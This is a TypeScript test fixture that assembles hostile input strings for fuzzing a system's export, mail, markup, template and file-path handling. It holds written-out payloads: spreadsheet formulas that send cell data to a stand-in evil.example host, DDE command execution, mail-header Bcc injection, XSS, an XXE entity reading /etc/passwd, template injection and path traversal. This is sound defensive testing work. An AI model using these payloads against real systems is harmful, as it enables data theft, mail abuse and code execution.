/**
 * Text that people, or somebody who means harm, might type: the Big List of Naughty Strings, what it lacks for this system (threats.md), and
 * random text made of the same stuff. Every sink is tried with all of it; a string that broke something once is added below.
 */
import naughty from 'big-list-of-naughty-strings' with { type: 'json' };
import { seeded } from '../delivery/seeded.ts';

const FORMULAS = [
  ...[
    '=HYPERLINK("http://evil.example","Xem")',
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    "'=1+1",
  ],
  ...['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00A0=1+1', '\u200B=1+1', '=cmd|"/c calc"!A0', '=DDE("cmd";"/c calc";"x")'],
  ...[
    '=IMPORTXML("http://evil.example/?"&A1,"//a")',
    '=IMAGE("http://evil.example/x.png")',
    '=IMPORTRANGE("x","A1")',
    '%2B1',
    '0x10',
  ],
];

const HEADERS = [
  ...['x\r\nBcc: evil@evil.example', 'x\nBcc: evil@evil.example', 'x\rBcc: evil@evil.example', 'x\u0085Bcc: evil@evil.example'],
  ...[
    'x\u2028Bcc: evil@evil.example',
    'x\u2029Bcc: evil@evil.example',
    'x\u0000Bcc: evil@evil.example',
    '%0d%0aBcc: evil@evil.example',
  ],
  ...[
    'x\r\n\r\n<script>alert(1)</script>',
    'x\r\n.\r\nMAIL FROM:<evil@evil.example>',
    '"x" <evil@evil.example>,',
    'x, evil@evil.example',
  ],
  ...[
    '=?utf-8?Q?=0D=0ABcc:_evil=40evil.example?=',
    '=?utf-8?B?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=',
    '(x) <y@z.example>',
    'x:y;',
    '\\"',
  ],
];

const MARKUP = [
  ...['</td></tr></table><script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><a href="javascript:alert(1)">x</a>'],
  ...[
    "' onmouseover='alert(1)",
    '`onload=alert(1)`',
    '<!--',
    '-->',
    '<![CDATA[x',
    ']]>',
    '&lt;b&gt;',
    '&#60;b&#62;',
    '&bogus;',
    '&',
    '</w:t>',
  ],
  ...[
    '<?xml version="1.0"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '</style><script>',
    '<svg/onload=alert(1)>',
  ],
  ...[
    '{{this}}',
    '{{{this}}}',
    '{{constructor.constructor "return process"}}',
    '{{> layout}}',
    '{{#each x}}',
    '\\{{x}}',
    '$\u007B7*7}',
    '#{x}',
    '<%= x %>',
  ],
  ...['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '//evil.example', 'http://evil.example/?q=1&r=2#s'],
];

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'length',
  'then',
  'toJSON',
  'null',
  'NaN',
];

const UNICODE = [
  ...[
    '\u202Egnp.exe',
    'a\u2066b\u2069c',
    '\u200F',
    '\uFEFFx',
    'a\u200Bb\u200Cc\u200Dd',
    '\u00AD',
    '\u2060',
    '\uD800',
    '\uDC00',
    'a\uD83Db',
    '\uDE00\uD83D',
  ],
  ...[
    '\u0000',
    'a\u0000b',
    '\u0001\u0008\u000B\u000C\u000E\u001F\u007F',
    '\uFFFE',
    '\uFFFF',
    '\u{1FFFE}',
    '\u{10FFFF}',
    '\uFFFD',
    '\uE000',
  ],
  ...[
    'Hòa'.normalize('NFD'),
    'Trường Tiểu học Đặng Xá'.normalize('NFD'),
    'hoà',
    'ﬁ',
    'Å',
    '👩‍👩‍👧‍👦',
    '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
    '👍🏽',
    '١٢٣',
    '１２３',
    'Ⅷ',
    'İ',
    'ß',
  ],
  ...['e'.concat('\u0301'.repeat(500)), '\u0301', '\uD83D\uDE00'.repeat(50)],
];

/** Longer than any field: whole pages, one word without an end, deep nesting. */
const LARGE = [
  'A'.repeat(100_000),
  'ộ '.repeat(50_000),
  '<b>'.repeat(30_000),
  '('.repeat(100_000),
  `=${'1+'.repeat(40_000)}1`,
  '\n'.repeat(100_000),
];

const PATHS = [
  '../../../../etc/passwd',
  'C:\\con\\con',
  'file:///etc/passwd',
  'a/b\\c:d*e?f"g<h>i|j',
  '.',
  '..',
  'CON',
  'x.exe ',
  '%2e%2e%2f',
];

/** The lists that people wrote. */
export const LISTED: readonly string[] = [
  ...new Set([...naughty, ...FORMULAS, ...HEADERS, ...MARKUP, ...NAMES, ...UNICODE, ...PATHS, ...LARGE]),
];

/** For sinks that are slow: everything but the pages of text. */
export const SHORT: readonly string[] = LISTED.filter((text) => text.length < 10_000);

const RANDOM_STRINGS = 5_000;

/** Random strings of the same pieces, glued, cut in the middle of a character, and with any character between them. */
export const RANDOM: readonly string[] = (() => {
  const random = seeded(20_261_122);
  const below = (n: number): number => Math.floor(random() * n);
  const piece = (): string => {
    const one = SHORT[below(SHORT.length)] ?? '';
    switch (below(4)) {
      case 0:
        return one.slice(0, 60);
      case 1:
        return one.slice(below(one.length), below(one.length) + 20);
      case 2:
        return String.fromCharCode(...Array.from({ length: 1 + below(6) }, () => below(0x10000)));
      default:
        return String.fromCharCode(...Array.from({ length: 1 + below(12) }, () => below(0x80)));
    }
  };
  return Array.from({ length: RANDOM_STRINGS }, () => Array.from({ length: 1 + below(4) }, piece).join(''));
})();

export const HOSTILE: readonly string[] = [...LISTED, ...RANDOM];

/** So many strings at a time: one letter, one tab or one mail takes many. */
export function inBatches<Value>(values: readonly Value[], size: number): Value[][] {
  return Array.from({ length: Math.ceil(values.length / size) }, (_, place) => values.slice(place * size, (place + 1) * size));
}
